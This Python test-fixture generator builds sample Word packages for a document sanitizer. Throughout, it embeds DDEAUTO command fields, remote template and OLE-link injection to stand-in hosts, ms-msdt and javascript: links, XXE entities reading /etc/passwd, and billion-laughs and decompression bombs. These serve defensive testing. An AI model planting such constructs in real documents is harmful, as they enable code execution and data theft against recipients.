"""Word documents: one for each thing that must go, and broken ones."""
import metafilemaker as meta
import ooxmlcases as cases
from ooxmlmaker import (add_chart, chart_frame, MAIN, MICROSOFT, NAMESPACES, OFFICE, OLE, STRICT, VBA, Package,
                        character, compound_file, declare, docx, document_xml, field,
                        instruction, ole_object, paragraph, vba_project, zip_members)
from picturemaker import flat, png, scene
from sample import Sample, sibling

WORD = OFFICE + "wordprocessingml."
HELLO = paragraph("入札説明書")
PHOTO = png(flat(scene(16, 12)))


def ooxml(*names):
    return ["ooxml." + name for name in names]


def sample(name, package, *removals, **more):
    data = package if isinstance(package, bytes) else package.data()
    if removals:
        more["removals"] = [kind if "." in kind else "ooxml." + kind for kind in removals]
    else:
        more.setdefault("verdict", "unchanged")
    return Sample(name, data, **more)


def blocked(name, package, reason, **more):
    data = package if isinstance(package, bytes) else package.data()
    return Sample(name, data, verdict="blocked", reason=reason, **more)


def picture(identifier, attribute="embed"):
    return ('<w:p><w:r><w:drawing><wp:inline><wp:extent cx="914400" cy="685800"/>'
            '<wp:docPr id="1" name="写真"/><a:graphic><a:graphicData '
            f'uri="{NAMESPACES["pic"]}"><pic:pic><pic:nvPicPr><pic:cNvPr id="1" name="p"/>'
            f'<pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:{attribute}="{identifier}"/>'
            '<a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr><a:xfrm>'
            '<a:off x="0" y="0"/><a:ext cx="914400" cy="685800"/></a:xfrm>'
            '<a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic>'
            '</a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>')


def settings(package, xml):
    return package.part("rIdS", "settings", "word/settings.xml", WORD + "settings+xml",
                        f'<w:settings{declare("w", "r")}>{xml}</w:settings>')


def with_macro(content_type, body=HELLO):
    package = docx(body, content_type=content_type)
    package.defaults["bin"] = VBA[1]
    package.add("word/vbaProject.bin", None, vba_project())
    return package.relate(package.main, "rIdV", VBA[0], "word/vbaProject.bin")


def good():
    package = docx(HELLO + picture("rId5") + paragraph("甲", field(' PAGE ')) +
                   paragraph("乙", field(' HYPERLINK "https://www.example.jp/" \\o "案内" ')) +
                   '<w:p><w:hyperlink r:id="rId6"><w:r><w:t>案内</w:t></w:r></w:hyperlink></w:p>'
                   '<w:p><w:r><w:ruby><w:rubyPr><w:rubyAlign w:val="distributeSpace"/>'
                   '<w:lid w:val="ja-JP"/></w:rubyPr><w:rt><w:r><w:t>せきしょ</w:t></w:r></w:rt>'
                   '<w:rubyBase><w:r><w:t>関所</w:t></w:r></w:rubyBase></w:ruby></w:r></w:p>' +
                   paragraph("丙", field(r' EQ \* jc2 \* "Font:ＭＳ 明朝" \o\ad(\s\up 9(たけ),竹)')) +
                   '<w:p><w:pPr><w:eastAsianLayout w:combine="1"/></w:pPr></w:p>')
    package.defaults["png"] = "image/png"
    package.add("word/media/image1.png", None, PHOTO)
    package.relate(package.main, "rId5", "image", "word/media/image1.png")
    package.link("rId6", "hyperlink", "https://www.example.jp/案内?a=1&b=2")
    yield sample("plain.docx", package, note="picture, fields, links and ruby stay")
    strict = Package("word/document.xml", WORD + "document.main+xml",
                     document_xml(HELLO).replace(NAMESPACES["w"],
                                                 "http://purl.oclc.org/ooxml/wordprocessingml/main")
                     .replace(NAMESPACES["r"],
                              "http://purl.oclc.org/ooxml/officeDocument/relationships"),
                     relation=STRICT + "officeDocument")
    yield sample("strict.docx", strict, note="the strict form")
    yield sample("template.dotx", docx(HELLO, content_type="wordprocessingml.template.main+xml"))
    hidden = strict.part("rId9", STRICT + "oleObject", "word/embeddings/o.bin", OLE, ole_object())
    yield sample("strict-object.docx", hidden, "ole_object",
                 note="strict relationship types are the same types")


def code():
    yield sample("入札説明書.docm", with_macro(
        "application/vnd.ms-word.document.macroEnabled.main+xml",
        HELLO + paragraph("マクロを有効にしてください。")), "macro_enabled", "vba_project",
        output="入札説明書.docx", demo=True, note="a document with a macro that runs when opened")
    yield sample("macro.dotm", with_macro(
        "application/vnd.ms-word.template.macroEnabledTemplate.main+xml"),
        "macro_enabled", "vba_project", output="macro.dotx")
    yield sample("macro-in-docx.docx", with_macro("wordprocessingml.document.main+xml"),
                 "vba_project", note="a macro in a document that is not to have any")
    package = docx(HELLO)
    package.add("word/vbaProject.bin", VBA[1], vba_project())
    yield sample("unreferenced-macro.docx", package, "vba_project",
                 note="the part is there, nothing refers to it")
    package = docx(HELLO)
    package.add("word/vbaProject.bin", VBA[1], vba_project())
    package.relate(package.main, "rId8", "HTTP://evil.example/x/VBAPROJECT", "word/vbaProject.bin")
    yield sample("odd-type-macro.docx", package, "vba_project")
    package = with_macro("application/vnd.ms-word.document.macroEnabled.main+xml")
    package.part("rId1", MICROSOFT + "wordVbaData", "word/vbaData.xml",
                 "application/vnd.ms-word.vbaData+xml",
                 f'<wne:vbaSuppData{declare("wne")}/>', source="word/vbaProject.bin")
    package.part("rIdK", MICROSOFT + "keyMapCustomizations", "word/customizations.xml",
                 "application/vnd.ms-word.keyMapCustomizations+xml",
                 f'<wne:tcg{declare("wne")}/>')
    package.part("rIdU", MICROSOFT + "ui/extensibility", "customUI/customUI.xml",
                 "application/xml", '<customUI onLoad="Evil"/>', source="")
    package.part("rIdW", "http://schemas.microsoft.com/office/2011/relationships/"
                 "webextensiontaskpanes", "word/webextensions/taskpanes.xml",
                 "application/vnd.ms-office.webextensiontaskpanes+xml", "<taskpanes/>", source="")
    yield sample("commands.docm", package, "macro_enabled", "vba_project", "custom_commands",
                 "web_extension", output="commands.docx")
    shape = ('<w:p><w:r><w:pict><v:shape id="s" onmouseover="Evil()" '
             'href="javascript:alert(1)" style="behavior:url(x.htc)">'
             '<v:textbox><w:txbxContent><w:p><w:r><w:t>図形</w:t></w:r></w:p>'
             '</w:txbxContent></v:textbox></v:shape></w:pict></w:r></w:p>')
    yield sample("vml-events.docx", docx(HELLO + shape), "script", "link")
    yield sample("field-in-choice.docx", docx(HELLO + "<w:p>" + character("begin") + (
        "<w:r><w:instrText> HYPERLINK <mc:AlternateContent><mc:Choice Requires=\"w\">"
        "&quot;file:///C:/a.exe&quot;</mc:Choice></mc:AlternateContent> \\l &quot;a&quot;</w:instrText>"
        "</w:r>") + character("separate") + "<w:r><w:t>甲</w:t></w:r>" + character("end") + "</w:p>"),
        "xml_unknown", note="markup compatibility would put the address in its place")
    yield sample("link-places.docx", docx(
        HELLO + '<w:p><w:hyperlink w:anchor="\\\\203.0.113.9\\a.exe" w:docLocation="file:///C:/a">'
        '<w:r><w:t>甲</w:t></w:r></w:hyperlink><w:hyperlink w:anchor="_Toc1"><w:r><w:t>乙</w:t>'
        '</w:r></w:hyperlink></w:p>' + paragraph("丙", field(' HYPERLINK \\l "file:///C:/a" '))),
        "link", "field", note="paths where places in the document belong")
    yield sample("form-macros.docx", docx(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"><w:ffData><w:name w:val="Text1"/>'
        '<w:entryMacro w:val="Evil"/><w:exitMacro w:val="Evil"/></w:ffData></w:fldChar></w:r>' +
        instruction(" FORMTEXT ") + character("separate") + "<w:r><w:t>値</w:t></w:r>" +
        character("end") + "</w:p>"), "macro_link")


def objects():
    shape = ('<v:shape id="s1" o:ole="" style="width:50pt;height:50pt">'
             '<v:imagedata r:id="rId5"/></v:shape>')
    package = docx(HELLO + f'<w:p><w:r><w:object w:dxaOrig="1" w:dyaOrig="1">{shape}'
                   '<o:OLEObject Type="Embed" ProgID="Package" ShapeID="s1" DrawAspect="Icon" '
                   'ObjectID="_1" r:id="rId4"/></w:object></w:r></w:p>')
    package.defaults["png"] = "image/png"
    package.add("word/media/image1.png", None, PHOTO)
    package.relate(package.main, "rId5", "image", "word/media/image1.png")
    package.part("rId4", "oleObject", "word/embeddings/oleObject1.bin", OLE, ole_object())
    yield sample("ole-object.docx", package, "ole_object", note="its picture stays")
    package = docx(HELLO + f'<w:p><w:r><w:object>{shape.replace("rId5", "")}'
                   '<o:OLEObject Type="Link" ProgID="Word.Document.12" ShapeID="s1" '
                   'DrawAspect="Content" ObjectID="_1" r:id="rId4" UpdateMode="Always"/>'
                   '</w:object></w:r></w:p>')
    package.link("rId4", "oleObject", "file:///\\\\203.0.113.9\\share\\a.rtf")
    yield sample("ole-link.docx", package, "ole_object", note="a linked object (template injection)")
    package = docx(HELLO)
    package.part("rId4", "package", "word/embeddings/inner.docm",
                 "application/vnd.ms-word.document.macroEnabled.12",
                 with_macro("application/vnd.ms-word.document.macroEnabled.main+xml").data())
    yield sample("embedded-docm.docx", package, "embedded_document")
    chart = ('<w:p><w:r><w:drawing><wp:inline><wp:extent cx="914400" cy="685800"/><wp:docPr id="1" '
             f'name="グラフ"/>{chart_frame("rId4")}</wp:inline></w:drawing></w:r></w:p>')
    for name, inner, data in (
            ("embedded-workbook", "book.xlsm", sibling("xlsx", "embedding.xlsm")),
            ("embedded-not-a-document", "book.xlsx", vba_project())):
        package = docx(HELLO + chart)
        yield sample(f"{name}.docx", add_chart(package, package.main, "rId4", "word", inner, data),
                     "embedded_document",
                     note="sanitized by policy: macros and DDE inside go, in the letter inside the "
                     "workbook too")
    package = docx(HELLO + '<w:p><w:r><w:object><w:control r:id="rId4" w:name="Button" '
                   'w:shapeid="s"/></w:object></w:r></w:p>')
    package.part("rId4", "control", "word/activeX/activeX1.xml",
                 "application/vnd.ms-office.activeX+xml", "<ocx/>")
    package.part("rId1", MICROSOFT + "activeXControlBinary", "word/activeX/activeX1.bin",
                 "application/vnd.ms-office.activeX", compound_file({"contents": b"x"}),
                 source="word/activeX/activeX1.xml")
    yield sample("activex.docx", package, "control")


def fetches():
    package = settings(docx(HELLO), '<w:attachedTemplate r:id="rId1"/><w:linkStyles/>')
    package.link("rId1", "attachedTemplate", "https://evil.example/t.dotm", "word/settings.xml")
    yield sample("remote-template.docx", package, "template", note="template injection")
    package = docx(HELLO + picture("rId5", "link"))
    package.link("rId5", "image", "http://tracker.example/pixel.png")
    yield sample("linked-picture.docx", package, "linked_picture")
    package = docx(HELLO + picture("rId5"))
    package.link("rId5", "hyperlink", "http://tracker.example/pixel.png")
    yield sample("picture-by-hyperlink.docx", package, "part_unreferenced",
                 note="a link that would be fetched as a picture")
    package = docx(HELLO + '<w:altChunk r:id="rId4"/><w:p><w:subDoc r:id="rId5"/></w:p>')
    package.part("rId4", "aFChunk", "word/afchunk.mht", "message/rfc822", b"MIME-Version: 1.0")
    package.link("rId5", "subDocument", "file:///C:/secret.docx")
    yield sample("chunks.docx", package, "alt_chunk", "sub_document")
    package = docx(HELLO)
    package.part("rId4", "webSettings", "word/webSettings.xml", WORD + "webSettings+xml",
                 f'<w:webSettings{declare("w", "r")}><w:frameset><w:frame><w:sourceFileName '
                 'r:id="rId1"/></w:frame></w:frameset></w:webSettings>')
    package.link("rId1", "frame", "http://evil.example/f.docx", "word/webSettings.xml")
    yield sample("frameset.docx", package, "frame")
    package = settings(docx(HELLO), '<w:mailMerge><w:mainDocumentType w:val="formLetters"/>'
                       '<w:dataSource r:id="rId1"/></w:mailMerge>'
                       '<w:docVars><w:docVar w:name="payload" w:val="powershell"/></w:docVars>'
                       '<w:attachedSchema w:val="urn:x"/><w:saveThroughXslt r:id="rId2"/>'
                       '<w:smartTagType w:namespaceuri="u" w:name="n" w:url="http://evil.example/"/>')
    package.link("rId1", "mailMergeSource", "file:///C:/a.mdb", "word/settings.xml")
    package.link("rId2", "transform", "http://evil.example/t.xslt", "word/settings.xml")
    yield sample("settings.docx", package, "mail_merge", "document_variable", "schema",
                 "transform", "smart_tag")
    bad = ["file:///C:/Windows/System32/calc.exe", "\\\\203.0.113.9\\share\\x.exe",
           "ms-msdt:/id PCWDiagnostic", "search-ms:query=x", "javascript:alert(1)",
           "mhtml:http://a!x", "other.docx", " http://a.example/", "mailto:a?attach=C:/x"]
    links = "".join(f'<w:p><w:hyperlink r:id="rL{i}"><w:r><w:t>{i}</w:t></w:r></w:hyperlink></w:p>'
                    for i in range(len(bad)))
    package = docx(HELLO + links)
    for i, target in enumerate(bad):
        package.link(f"rL{i}", "hyperlink", target)
    yield sample("bad-links.docx", package, "link", note="every scheme that is not on the list")


def fields():
    bad = {
        "dde": field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" '),
        "split": field([" D", "DE", "AUT", "O cmd /c calc "]),
        "includetext": field(' INCLUDETEXT "http://evil.example/x" '),
        "includepicture": field(' INCLUDEPICTURE "\\\\\\\\203.0.113.9\\\\x" \\d '),
        "link": field(' LINK Excel.Sheet.8 "C:\\\\a.xls" "" \\a \\p '),
        "macrobutton": field(" MACROBUTTON AutoExec ここを押す "),
        "if": field(' IF 1 = 1 "x" "y" '),
        "merge": field(" MERGEFIELD 氏名 "),
        "hyperlink": field(' HYPERLINK "file:///C:/Windows/System32/calc.exe" '),
        "place": field(' HYPERLINK \\l "file:///C:/a.exe" '),
        "place-twice": field(' HYPERLINK "https://a.example/" \\l "x" "file:///C:/a.exe" '),
        "hidden-in-page": field(" PAGE DDEAUTO cmd /c calc "),
        "quoted-keyword": field(' "DDE" cmd "/c calc" '),
        "nested": (character("begin") + instruction(" HYPERLINK ") +
                   field(" QUOTE 104 116 116 112 ") + character("separate") +
                   "<w:r><w:t>結果</w:t></w:r>" + character("end")),
        "quote": (character("begin") + field(" QUOTE 68 68 69 65 85 84 79 ", "DDEAUTO") +
                  instruction(' cmd "/c calc" ') + character("separate") +
                  "<w:r><w:t>結果</w:t></w:r>" + character("end")),
        "unterminated": character("begin") + instruction(" DDEAUTO cmd "),
        "text-as-instruction": (character("begin") + "<w:r><w:t>DDEAUTO</w:t></w:r>" +
                                instruction(" cmd ") + character("end")),
        "stray": instruction(" DDEAUTO cmd ") + character("end"),
    }
    for name, xml in bad.items():
        yield sample(f"field-{name}.docx", docx(HELLO + f"<w:p>{xml}</w:p>"), "field")
    yield sample("field-simple.docx", docx(
        HELLO + '<w:p><w:fldSimple w:instr=" DDEAUTO cmd &quot;/c calc&quot; "><w:r><w:t>結果'
        '</w:t></w:r></w:fldSimple></w:p>'), "field")
    yield sample("field-over-text-box.docx", docx(
        HELLO + "<w:p>" + character("begin") +
        '<w:r><w:pict><v:shape id="s"><v:textbox><w:txbxContent><w:p>' +
        instruction(" PAGE ") + "</w:p></w:txbxContent></v:textbox></v:shape></w:pict></w:r>" +
        instruction(" DDEAUTO cmd ") + character("end") + "</w:p>"), "field",
        note="an instruction spread over two stories")
    yield sample("field-over-branches.docx", docx(
        HELLO + "<w:p>" + character("begin") +
        '<mc:AlternateContent><mc:Choice Requires="a"><w:r><w:instrText> PAGE \\* </w:instrText>'
        '</w:r></mc:Choice></mc:AlternateContent>' + instruction("DDEAUTO cmd ") +
        character("separate") + "<w:r><w:t>結果</w:t></w:r>" + character("end") + "</w:p>"),
        "field")
    yield sample("field-tracked.docx", docx(
        HELLO + "<w:p>" + character("begin") +
        '<w:ins w:id="1" w:author="a">' + instruction(" PAGE ") + "</w:ins>" +
        instruction(" DDEAUTO cmd ") + character("separate") + "<w:r><w:t>結果</w:t></w:r>" +
        character("end") + "</w:p>"), "field")
    yield sample("field-data.docx", docx(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"><w:fldData>0M8R4KGxGuEAAAAA</w:fldData>'
        '</w:fldChar></w:r>' + instruction(" PAGE ") + character("end") + "</w:p>"), "field_data")


def rest():
    package = docx(HELLO + '<w:sdt><w:sdtPr><w:dataBinding w:xpath="/x" '
                   'w:storeItemID="{0}"/></w:sdtPr><w:sdtContent>' + HELLO +
                   '</w:sdtContent></w:sdt>')
    package.part("rId4", "customXml", "customXml/item1.xml", None, "<x/>")
    package.part("rId1", "customXmlProps", "customXml/itemProps1.xml",
                 OFFICE + "customXmlProperties+xml",
                 f'<ds:datastoreItem xmlns:ds="{MAIN}officeDocument/2006/customXml" '
                 'ds:itemID="{0}"/>', source="customXml/item1.xml")
    yield sample("custom-xml.docx", package, "custom_xml", "data_binding")
    package = docx(HELLO + f'<w:p><w:r><w:pict><v:shape id="s" o:gfxdata="UEsDBBQABgAIAAAAIQ"/>'
                   '</w:pict></w:r></w:p>')
    package.part("rIdF", "fontTable", "word/fontTable.xml", WORD + "fontTable+xml",
                 f'<w:fonts{declare("w", "r")}><w:font w:name="F"><w:embedRegular r:id="rId1" '
                 'w:fontKey="{0}"/></w:font></w:fonts>')
    package.part("rId1", "font", "word/fonts/font1.odttf",
                 "application/vnd.openxmlformats-officedocument.obfuscatedFont", b"font" * 20,
                 source="word/fontTable.xml")
    package.part("rIdP", "printerSettings", "word/printerSettings1.bin",
                 WORD.replace("+xml", "") + "printerSettings", b"devmode")
    package.part("rIdT", "http://schemas.openxmlformats.org/package/2006/relationships/"
                 "metadata/thumbnail", "docProps/thumbnail.jpeg", "image/jpeg", b"\xff\xd8\xff",
                 source="")
    yield sample("opaque.docx", package, "opaque_data", "embedded_font", "printer_settings",
                 "thumbnail")
    package = docx(HELLO)
    package.part("rIdX", "custom-properties", "docProps/custom.xml", OFFICE +
                 "custom-properties+xml",
                 f'<Properties xmlns="{MAIN}officeDocument/2006/custom-properties" '
                 f'xmlns:vt="{MAIN}officeDocument/2006/docPropsVTypes"><property fmtid="{{0}}" '
                 'pid="2" name="_AssemblyLocation"><vt:lpwstr>http://evil.example/a.vsto'
                 '</vt:lpwstr></property><property fmtid="{0}" pid="3" name="文書番号">'
                 '<vt:lpwstr>総務第1号</vt:lpwstr></property></Properties>', source="")
    package.part("rIdA", "extended-properties", "docProps/app.xml", OFFICE +
                 "extended-properties+xml",
                 f'<Properties xmlns="{MAIN}officeDocument/2006/extended-properties"><Template>'
                 '\\\\server\\t.dotm</Template><HyperlinkBase>file:///C:/</HyperlinkBase>'
                 '<Application>Word</Application></Properties>', source="")
    yield sample("properties.docx", package, "property", "template")
    package = docx(HELLO)
    package.part("rIdO", "http://schemas.openxmlformats.org/package/2006/relationships/"
                 "digital-signature/origin", "_xmlsignatures/origin.sigs",
                 "application/vnd.openxmlformats-package.digital-signature-origin", b"", source="")
    package.part("rId1", "http://schemas.openxmlformats.org/package/2006/relationships/"
                 "digital-signature/signature", "_xmlsignatures/sig1.xml",
                 "application/vnd.openxmlformats-package.digital-signature-xmlsignature+xml",
                 "<Signature/>", source="_xmlsignatures/origin.sigs")
    yield sample("signed.docx", package, "signature")
    yield sample("unknown-markup.docx", docx(
        HELLO + '<e:evil xmlns:e="urn:evil" e:run="1">x</e:evil><!-- hidden --><?pi data?>'
        '<w:p xmlns:e="urn:evil" e:run="1"/><mc:AlternateContent><mc:Choice xmlns:q="urn:q" '
        'Requires="q"><w:p/></mc:Choice><mc:Fallback><w:p><w:r><w:t>代わり</w:t></w:r></w:p>'
        '</mc:Fallback></mc:AlternateContent>'), "xml_unknown", "xml_extra")
    for name, xml, kinds in (
            ("word-element", '<w:p><w:evil w:run="x"><w:r><w:t>隠し</w:t></w:r></w:evil></w:p>',
             ["unknown_element"]),
            ("word-attribute", '<w:p w:onload="x" onload="x" evil="y" w14:evil="z"/>',
             ["unknown_attribute", "script"]),
            ("word-extension", '<w:p><w:r><w:rPr><w14:evil w14:val="x"/></w:rPr></w:r></w:p>',
             ["unknown_element"]),
            ("drawing-element", picture("rId5").replace(
                "<a:stretch>", '<a:fetch href="http://evil.example/"/><a:stretch>'),
             ["unknown_element"]),
            ("drawing-attribute", picture("rId5").replace(
                "<a:stretch>", '<a:stretch source="http://evil.example/">'),
             ["unknown_attribute"]),
            ("vml-element", '<w:p><w:r><w:pict><v:shape id="s"><v:webview url="x"/>'
             '<o:evil/><iframe/></v:shape></w:pict></w:r></w:p>', ["unknown_element"]),
            ("reference", '<w:p r:id="rId5"><w:pPr><w:pStyle r:embed="rId5"/></w:pPr></w:p>',
             ["unknown_attribute", "part_unreferenced"]),
            ("choice", '<w:p><w:r><mc:AlternateContent><mc:Choice Requires="w14"><w14:evil/>'
             '</mc:Choice><mc:Fallback><w:t>代わり</w:t></mc:Fallback></mc:AlternateContent>'
             '</w:r></w:p>', ["unknown_element"])):
        package = docx(HELLO + xml, ("w14",))
        if "rId5" in xml:
            package.defaults["png"] = "image/png"
            package.add("word/media/image1.png", None, PHOTO)
            package.relate(package.main, "rId5", "image", "word/media/image1.png")
        yield sample(f"unlisted-{name}.docx", package, *kinds,
                     note="a known namespace lends no trust to unknown names")
    yield from metafiles()
    package = docx(HELLO)
    package.add("word/secret.bin", "application/octet-stream", b"MZ" + bytes(100))
    package.relate(package.main, "rId4", "image", "word/missing.png")
    package.relate(package.main, "rId5", "styles", "../../../../etc/passwd")
    package.relate(package.main, "rId6", "urn:evil/relation", "word/secret.bin")
    yield sample("loose-ends.docx", package, "relation_broken", "part_unreferenced", note="targets that lead nowhere")


def metafiles():
    def drawing(name, data):
        package = docx(HELLO + picture("rId5"))
        package.part("rId5", "image", f"word/media/{name}", f"image/x-{name[-3:]}", data)
        return package

    for name, data in (("image1.emf", meta.EMF), ("image1.wmf", meta.WMF), ("image1.emz", meta.packed(meta.EMF)),
                       ("image1.wmz", meta.packed(meta.WMF))):
        yield sample(f"metafile-{name[-3:]}.docx", drawing(name, data), note="a drawing")
    yield sample("metafile-comment.docx", drawing("image1.emf", meta.EMF_DUAL), "picture.metafile",
                 note="GDI+ beside what draws the same without")
    yield sample("metafile-escape.docx", drawing("image1.wmf", meta.WMF_DRIVER), "picture.metafile",
                 note="an escape that names a procedure")
    for name, data in (("image1.emf", meta.EMF[:-30]), ("image1.wmf", meta.WMF[:-10]),
                       ("image1.emz", meta.packed(meta.EMF, size=7)), ("image1.wmz", meta.packed(meta.WMF)[:-9])):
        yield sample(f"metafile-bad-{name[-3:]}.docx", drawing(name, data), "nested.blocked",
                     note="a transparent picture keeps the layout")
    bomb = meta.packed(meta.EMF + bytes(40 << 20))
    yield sample("metafile-bomb.docx", drawing("image1.emz", bomb), "nested.blocked",
                 note="a few bytes that would become many are not unpacked")


def properties(package, kind, xml):
    return package.part("rIdX", f"{kind}-properties", f"docProps/{kind}.xml",
                        OFFICE + f"{kind}-properties+xml", xml, source="")


def lists():
    for name, package, kind in cases.with_parts(lambda: docx(HELLO), "word/document.xml",
                                                cases.WORD_PARTS):
        yield sample(f"{name}.docx", package, kind)
    for name, package, kind in cases.with_links(lambda: docx(HELLO), "word/document.xml",
                                                {"attachedTemplate": "template",
                                                 "recipientData": "mail_merge",
                                                 "frobnicate": "external_target"}):
        yield sample(f"{name}.docx", package, kind)
    for name, (xml, kind) in cases.WORD_ELEMENTS.items():
        yield sample(f"element-{name}.docx", docx(HELLO + xml), kind)
    for name, kind in cases.SETTINGS.items():
        yield sample(f"element-{name}.docx", settings(docx(HELLO), f"<w:{name}/>"), kind)
    for name, kind in cases.EXTENDED.items():
        yield sample(f"element-{name}.docx", properties(docx(HELLO), "extended", (
            f'<Properties xmlns="{MAIN}officeDocument/2006/extended-properties"><{name}/>'
            '</Properties>')), kind)
    for name in cases.VARIANTS:
        yield sample(f"element-{name}.docx", properties(docx(HELLO), "custom", (
            f'<Properties xmlns="{MAIN}officeDocument/2006/custom-properties" '
            f'xmlns:vt="{MAIN}officeDocument/2006/docPropsVTypes"><property fmtid="{{0}}" pid="2" '
            f'name="n"><vt:{name}>AAAA</vt:{name}></property></Properties>')), "opaque_data")
    fonts = "".join(f'<w:embed{style} w:fontKey="{{0}}"/>'
                    for style in ("Regular", "Bold", "Italic", "BoldItalic"))
    package = docx(HELLO)
    package.part("rIdF", "fontTable", "word/fontTable.xml", WORD + "fontTable+xml",
                 f'<w:fonts{declare("w", "r")}><w:font w:name="F">{fonts}</w:font></w:fonts>')
    yield sample("element-embedBold.docx", package, "embedded_font")
    package = docx(HELLO)
    package.part("rIdW", "webSettings", "word/webSettings.xml", WORD + "webSettings+xml",
                 "<w:webSettings>")
    yield sample("broken-part.docx", package, "part_broken",
                 note="a small part that is not well-formed goes, the document stays")
    package = docx(HELLO)
    package.part("rIdC", "comments", "word/comments.xml", WORD + "comments+xml",
                 f'<w:comments{declare("w")}><w:comment w:id="0" w:author="a">{HELLO}</w:comment>'
                 '</w:comments>')
    yield sample("comments.docx", package, note="they go by policy")
    mashup = '<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">UEsDBBQ</DataMashup>'
    package = docx(HELLO)
    package.part("rIdM", "customXml", "customXml/item1.xml", None, mashup)
    yield sample("data-mashup.docx", package, "custom_xml",
                 note="goes as what it is where policy keeps custom XML")


def broken():
    plain = docx(HELLO).data()
    yield blocked("truncated.docx", plain[:len(plain) // 2], "malformed.truncated")
    flipped = bytearray(plain)
    at = plain.index(b"word/document.xml") + 60
    flipped[at] ^= 0x10
    flipped[at + 7] ^= 0x40
    yield blocked("bit-flipped.docx", bytes(flipped), "malformed")
    laughs = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
    for name, dtd in (("billion-laughs", f'<!DOCTYPE x [<!ENTITY l0 "lol">{laughs}]>'),
                      ("external-entity", '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'),
                      ("parameter-entity",
                       '<!DOCTYPE x [<!ENTITY % e SYSTEM "http://evil.example/d"> %e;]>'),
                      ("dtd", '<!DOCTYPE x SYSTEM "http://evil.example/d">')):
        package = docx(HELLO)
        package.add("word/document.xml", WORD + "document.main+xml",
                    dtd + document_xml(paragraph("x")).replace(">x<", ">&l9;<" if "laughs" in name
                                                               else ">x<"))
        yield blocked(f"{name}.docx", package, "xml.dtd")
    for encoding in ("shift_jis", "cp037", "utf-7"):
        package = docx(HELLO)
        package.parts["word/document.xml"] = (
            f'<?xml version="1.0" encoding="{encoding}"?>'
            + document_xml(paragraph("x"))).encode(encoding)
        yield blocked(f"encoding-{encoding}.docx", package, "malformed",
                      note="OPC allows UTF-8 and UTF-16")
    package = docx(HELLO)
    package.parts["word/document.xml"] = (
        '<?xml version="1.0" encoding="UTF-16"?>' + document_xml(HELLO)).encode("utf-16")
    yield sample("encoding-utf16.docx", package)
    yield blocked("deep.docx", docx("<w:p>" * 200000 + "</w:p>" * 200000), "limit.depth")
    yield sample("long-attribute.docx", docx(f'<w:p w:rsidR="{"A" * 3000000}"/>'))
    yield blocked("unclosed.docx", docx("<w:p><w:r>"), "malformed")
    two = docx(HELLO)
    two.part("rId2", "officeDocument", "word/other.xml", WORD + "document.main+xml",
             document_xml(HELLO), source="")
    yield blocked("two-documents.docx", two, "type.ambiguous")
    twice = docx(HELLO)
    twice.link("rId7", "hyperlink", "https://a.example/")
    twice.link("rId7", "hyperlink", "file:///C:/x")
    yield blocked("same-id-twice.docx", twice, "malformed")
    case = docx(HELLO)
    case.add("WORD/Document.xml", None, document_xml(HELLO))
    yield blocked("case-twins.docx", case, "archive.name_collision")
    members = [(name, data) for name, data in docx(HELLO).members()
               if name != "word/document.xml"]
    yield blocked("no-document.docx", zip_members(members), "malformed")


def samples():
    for group in (good, code, objects, fetches, fields, rest, lists, broken):
        yield from group()
